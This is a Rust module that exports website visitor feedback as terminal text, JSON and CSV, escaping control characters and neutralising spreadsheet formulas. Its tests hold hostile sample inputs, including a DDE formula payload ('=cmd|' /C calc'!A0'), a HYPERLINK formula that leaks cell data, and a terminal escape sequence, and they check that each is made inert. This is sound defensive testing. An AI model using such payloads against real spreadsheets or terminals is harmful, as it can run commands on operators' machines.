//! What an operator reads: submissions as a terminal table, one in full, JSON for tools, and a
//! spreadsheet export. Everything here was written by someone on the internet, so text for
//! the terminal has its control characters escaped and spreadsheet cells are made inert.

use std::fmt::Write as _;
use std::path::Path;

use serde_json::{Value, json};

use super::submission::{Feedback, Submission, states_text};
use crate::input::Escaped;

/// How `lantern feedback list` writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum ListFormat {
    /// A table for a person at a terminal.
    #[default]
    Text,
    /// A JSON array, for tools.
    Json,
    /// CSV for a spreadsheet (cells that a spreadsheet would run are made text).
    Csv,
}

/// How `lantern feedback export` writes its file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum ExportFormat {
    /// CSV for a spreadsheet (cells that a spreadsheet would run are made text).
    #[default]
    Csv,
    /// A JSON array.
    Json,
}

/// The list in `format`; `none` is what a text list says when there is nothing in it.
pub fn list(feedback: &[Feedback], format: ListFormat, none: &str) -> String {
    match format {
        ListFormat::Text if feedback.is_empty() => format!("{none}\n"),
        ListFormat::Text => feedback.iter().map(summary_line).collect(),
        ListFormat::Json => json_array(feedback),
        ListFormat::Csv => csv(feedback),
    }
}

/// Writes every submission in `feedback` to `out`.
pub fn export(feedback: &[Feedback], format: ExportFormat, out: &Path) -> std::io::Result<()> {
    use std::io::Write as _;
    use std::os::unix::fs::OpenOptionsExt;
    crate::db::create_folder_for(out).map_err(|(_, error)| error)?;
    let text = match format {
        ExportFormat::Csv => csv(feedback),
        ExportFormat::Json => json_array(feedback),
    };
    // It holds what visitors wrote and how to reach them: for the operator's eyes only.
    std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(out)?
        .write_all(text.as_bytes())
}

/// One line per submission: number, hour, state, what it is about, the start of its message.
fn summary_line(feedback: &Feedback) -> String {
    let state = if feedback.closed.is_some() {
        "closed"
    } else {
        "open"
    };
    let (about, message) = match &feedback.submission {
        Submission::Report {
            slug,
            problem,
            message,
            ..
        } => (format!("report {slug}: {problem}"), message),
        Submission::Suggestion { name, what, .. } => (
            format!("suggestion: {}", Escaped::line(&shorten(name, 40))),
            what,
        ),
    };
    format!(
        "#{:<5} {}  {:<6}  {}\n       {}\n",
        feedback.id,
        feedback.received_hour,
        state,
        about,
        Escaped::line(&shorten(message, 100))
    )
}

fn shorten(text: &str, chars: usize) -> String {
    match text.char_indices().nth(chars) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text.to_owned(),
    }
}

/// One submission in full, for `lantern feedback show`. `seed` is the file and line of a
/// reported entry: `Ok(None)` when the seeds no longer have it, `Err(why)` when they could
/// not be read (an operator halfway through an edit still reads the report).
pub fn show(feedback: &Feedback, seed: Result<Option<(&Path, usize)>, String>) -> String {
    let mut out = String::new();
    let mut field = |name: &str, value: &str| {
        let _ = writeln!(out, "{name:<13} {}", Escaped::lines(value));
    };
    field("feedback", &feedback.id.to_string());
    field("received", &feedback.received_hour);
    match &feedback.submission {
        Submission::Report {
            slug,
            problem,
            message,
            contact,
        } => {
            field("kind", "report about an entry");
            field("entry", slug.as_str());
            match seed {
                Ok(Some((file, line))) => field("seed", &format!("{}:{line}", file.display())),
                Ok(None) => field("seed", "not in the seeds (renamed or removed since?)"),
                Err(why) => field("seed", &format!("unknown: {why}")),
            }
            field("problem", problem.code());
            field("message", message);
            field("contact", contact.as_deref().unwrap_or("(none given)"));
        }
        Submission::Suggestion {
            name,
            what,
            reach,
            states,
            learned_from,
            contact,
        } => {
            field("kind", "suggested resource");
            field("name", name);
            field("what it does", what);
            field("reach", reach);
            field("states", &states_text(states));
            field("learned from", learned_from);
            field("contact", contact.as_deref().unwrap_or("(none given)"));
        }
    }
    match &feedback.closed {
        Some(closed) => {
            field("closed", &closed.at);
            field("note", &closed.note);
        }
        None => field("state", "open"),
    }
    out
}

/// The columns of the JSON and CSV forms, in order.
const COLUMNS: [&str; 14] = [
    "id",
    "received_hour",
    "kind",
    "slug",
    "problem",
    "message",
    "name",
    "reach",
    "states",
    "learned_from",
    "contact",
    "state",
    "closed_at",
    "close_note",
];

/// A submission as the JSON and CSV forms write it (absent fields are null).
fn record(feedback: &Feedback) -> [Option<String>; 14] {
    let (kind, slug, problem, message, name, reach, states, learned_from, contact) =
        match &feedback.submission {
            Submission::Report {
                slug,
                problem,
                message,
                contact,
            } => (
                "report",
                Some(slug.to_string()),
                Some(problem.code().to_owned()),
                message,
                None,
                None,
                None,
                None,
                contact,
            ),
            Submission::Suggestion {
                name,
                what,
                reach,
                states,
                learned_from,
                contact,
            } => (
                "suggestion",
                None,
                None,
                what,
                Some(name.clone()),
                Some(reach.clone()),
                Some(states_text(states)),
                Some(learned_from.clone()),
                contact,
            ),
        };
    let state = if feedback.closed.is_some() {
        "closed"
    } else {
        "open"
    };
    [
        Some(feedback.id.to_string()),
        Some(feedback.received_hour.clone()),
        Some(kind.to_owned()),
        slug,
        problem,
        Some(message.clone()),
        name,
        reach,
        states,
        learned_from,
        contact.clone(),
        Some(state.to_owned()),
        feedback.closed.as_ref().map(|c| c.at.clone()),
        feedback.closed.as_ref().map(|c| c.note.clone()),
    ]
}

fn json_array(feedback: &[Feedback]) -> String {
    let rows: Vec<Value> = feedback
        .iter()
        .map(|feedback| {
            let mut object = serde_json::Map::new();
            for (column, value) in COLUMNS.iter().zip(record(feedback)) {
                let value = match (*column, value) {
                    ("id", Some(id)) => json!(id.parse::<i64>().unwrap_or_default()),
                    (_, Some(text)) => json!(text),
                    (_, None) => Value::Null,
                };
                object.insert((*column).to_owned(), value);
            }
            Value::Object(object)
        })
        .collect();
    let mut text = serde_json::to_string_pretty(&rows).unwrap_or_else(|_| "[]".to_owned());
    text.push('\n');
    text
}

fn csv(feedback: &[Feedback]) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let written = crate::export::write_row(&mut writer, COLUMNS).and_then(|()| {
        feedback.iter().try_for_each(|feedback| {
            let cells = record(feedback);
            crate::export::write_row(
                &mut writer,
                cells.iter().map(|cell| cell.as_deref().unwrap_or_default()),
            )
        })
    });
    // Writing to memory cannot fail for want of space; a failure here is a bug.
    written.expect("CSV into memory");
    String::from_utf8(writer.into_inner().expect("CSV into memory")).expect("CSV of UTF-8 text")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::feedback::submission::{FeedbackId, Problem};

    fn report(message: &str, contact: Option<&str>) -> Feedback {
        Feedback {
            id: "7".parse::<FeedbackId>().unwrap(),
            received_hour: "2026-12-07T14:00:00Z".to_owned(),
            submission: Submission::Report {
                slug: "national-human-trafficking-hotline".parse().unwrap(),
                problem: Problem::PhoneWrong,
                message: message.to_owned(),
                contact: contact.map(str::to_owned),
            },
            closed: None,
        }
    }

    #[test]
    fn an_export_for_spreadsheets_runs_no_formula_a_visitor_wrote() {
        let feedback: Vec<Feedback> = [
            "=HYPERLINK(\"http://x?\"&A1)",
            "+1",
            "-1",
            "@A1",
            "\tx",
            "\rx",
        ]
        .iter()
        .map(|message| report(message, Some("=cmd|' /C calc'!A0")))
        .collect();
        let text = csv(&feedback);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let messages: Vec<(String, String)> = reader
            .records()
            .map(|row| {
                let row = row.unwrap();
                (row[5].to_owned(), row[10].to_owned())
            })
            .collect();
        assert_eq!(messages.len(), 6);
        for (message, contact) in messages {
            assert!(message.starts_with('\''), "{message:?} would run");
            assert_eq!(contact, "'=cmd|' /C calc'!A0");
        }
    }

    #[test]
    fn a_terminal_shows_control_characters_as_text() {
        let text = show(&report("fine\u{1b}]0;owned\u{7}", None), Ok(None));
        assert!(!text.contains('\u{1b}'), "{text}");
        assert!(text.contains("\\u{1b}]0;owned\\u{7}"), "{text}");
        assert!(text.contains("not in the seeds"), "{text}");
        let line = list(&[report("a\nfake line", None)], ListFormat::Text, "none");
        assert_eq!(line.lines().count(), 2, "{line}");
    }
}
